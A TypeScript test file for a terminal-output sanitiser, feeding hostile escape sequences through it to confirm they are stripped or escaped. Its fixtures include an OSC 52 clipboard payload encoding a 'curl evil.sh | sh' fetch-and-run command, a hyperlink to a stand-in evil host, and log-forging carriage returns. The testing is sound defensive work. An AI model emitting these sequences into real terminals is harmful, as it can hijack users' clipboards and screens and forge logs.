// The terminal sanitiser (issue 10, "Hostile output"): with colour on only SGR survives, with colour off
// nothing; every other sequence is removed and every other control character shown in caret notation.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { terminalSafeSummary } from '../../../source/store/DashboardStore.js';
import { jsonForTerminal, jsonStringForTerminal, sanitizeForTerminal } from '../../../source/terminal/sanitizeForTerminal.js';

/** What an agent printed in the attacks of issue 10, one kind per entry. */
const attacks: Record<string, string> = {
	'OSC 0 title (BEL)': '\x1b]0;pwned\x07',
	'OSC 2 title (ST)': '\x1b]2;pwned\x1b\\',
	'OSC 52 clipboard': '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
	'OSC 8 hyperlink': '\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\',
	'DCS (tmux passthrough)': '\x1bPtmux;\x1b\x1b]0;pwned\x07\x1b\\',
	'DCS DECRQSS': '\x1bP$qm\x1b\\',
	APC: '\x1b_Gf=100;AAAA\x1b\\',
	PM: '\x1b^private\x1b\\',
	SOS: '\x1bXstring\x1b\\',
	'cursor up': '\x1b[1A',
	'cursor position': '\x1b[1;1H',
	'erase line': '\x1b[2K',
	'erase display': '\x1b[2J',
	'scroll region': '\x1b[1;5r',
	'alternate screen': '\x1b[?1049h',
	'device status report': '\x1b[6n',
	'save cursor (ESC 7)': '\x1b7',
	'line drawing charset': '\x1b(0',
	'reset (RIS)': '\x1bc',
	'8-bit CSI': '\u009b2J',
	'8-bit OSC': '\u009d0;pwned\u0007',
	'8-bit DCS': '\u0090q\u009c',
	'SGR with a private parameter': '\x1b[?25l',
	'unterminated OSC': '\x1b]0;pwned',
};

/** ESC only inside `ESC [ digits/;/: m`, and no other C0 (but TAB), DEL or C1 character. */
function onlySgr(text: string): boolean {
	return !/[\x00-\x08\x0a-\x1f\x7f-\x9f]/.test(text.replace(/\x1b\[[0-9;:]*m/g, ''));
}

test('every attack sequence is removed or escaped, with colour on and off', () => {
	for (const [name, attack] of Object.entries(attacks)) {
		for (const color of [false, true]) {
			const out = sanitizeForTerminal(`before ${attack} after`, color);
			assert.ok(onlySgr(out), `${name} (colour ${color}): ${JSON.stringify(out)}`);
			assert.ok(!out.includes('\x1b'), `${name} (colour ${color}) leaves no ESC: ${JSON.stringify(out)}`);
			assert.match(out, /^before .*after$/, name);
		}
	}
	assert.equal(sanitizeForTerminal('a\x1b]0;pwned\x07b', false), 'ab');
	assert.equal(sanitizeForTerminal('a\x1b[1Ab\x1b[2Kc', true), 'abc');
	assert.equal(sanitizeForTerminal('a\x1bPtmux;\x1b\x1b]0;pwned\x07\x1b\\b', false).includes('\x1b'), false);
});

test('SGR is kept with colour on and removed with colour off', () => {
	const coloured = '\x1b[31mred\x1b[0m \x1b[1;38;5;208mbold orange\x1b[22;39m \x1b[38:2::255:0:0mtruecolor\x1b[m';
	assert.equal(sanitizeForTerminal(coloured, true), coloured);
	assert.equal(sanitizeForTerminal(coloured, false), 'red bold orange truecolor');
	// SGR next to hostile sequences: the colour stays, the rest goes
	assert.equal(sanitizeForTerminal('\x1b[32mok\x1b]0;t\x07\x1b[0m\x1b[2J', true), '\x1b[32mok\x1b[0m');
	// an SGR-looking sequence inside an OSC payload cannot turn the rest of the OSC into output
	assert.ok(onlySgr(sanitizeForTerminal('\x1b]0;a\x1b[31mb\x07c', true)));
	// an SGR longer than the bounded form is not kept
	assert.equal(sanitizeForTerminal(`a\x1b[${'1;'.repeat(40)}mb`, true), 'ab');
	assert.equal(sanitizeForTerminal(`a\x1b[${'1'.repeat(64)}mb`, true), `a\x1b[${'1'.repeat(64)}mb`);
});

test('a bare CR, BEL, backspace, DEL and line breaks are shown escaped; TAB stays', () => {
	assert.equal(sanitizeForTerminal('INFO real\r\x1b[2KINFO forged', false), 'INFO real^MINFO forged');
	assert.equal(sanitizeForTerminal('INFO real\rINFO forged', true), 'INFO real^MINFO forged');
	assert.equal(sanitizeForTerminal('bell\x07 bs\x08 del\x7f nul\x00', false), 'bell^G bs^H del^? nul^@');
	assert.equal(sanitizeForTerminal('one\ntwo', false), 'one^Jtwo');
	assert.equal(sanitizeForTerminal('lone escape \x1b', false), 'lone escape ^[');
	assert.equal(sanitizeForTerminal('a\tb', false), 'a\tb');
	assert.equal(sanitizeForTerminal('shift out\x0e', true), 'shift out^N');
});

test('plain text and non-ASCII text are returned as they are', () => {
	for (const text of ['', 'plain text', 'ünïcödé ✓ 漢字 🙂', 'tab\tseparated', '\ufffd replacement']) {
		assert.equal(sanitizeForTerminal(text, false), text);
		assert.equal(sanitizeForTerminal(text, true), text);
	}
});

test('JSON output is lossless and terminal-safe', () => {
	const line = 'title\x1b]0;pwned\x07 csi\u009b2J cr\r del\x7f';
	const json = jsonStringForTerminal(line, true);
	assert.equal(JSON.parse(json), line);
	assert.ok(!/[\x00-\x1f\x7f-\x9f]/.test(json), json);
	assert.equal(JSON.parse(jsonStringForTerminal('\x1b[31mred\x1b[0m\x1b]0;t\x07', false)), 'red');
	const value = { data: { output: 'x\u009d0;t\u0007\x1b[2J' } };
	const encoded = jsonForTerminal(value);
	assert.deepEqual(JSON.parse(encoded), value);
	assert.ok(!/[\x00-\x1f\x7f-\x9f]/.test(encoded), encoded);
});

test("the dashboard's executions table gets terminal-safe agent and tool names and errors", () => {
	const hostile = 'x\x1b]0;pwned\x07\rFORGED';
	const safe = terminalSafeSummary({ id: 'ex-1', agent: hostile, status: 'failed', steps: 1, tool: hostile, error: hostile, created_at: '', started_at: null, finished_at: null });
	for (const text of [safe.agent, safe.tool, safe.error]) assert.equal(text, 'x^MFORGED');
	assert.equal(terminalSafeSummary({ ...safe, agent: null, tool: null, error: null }).tool, null);
});
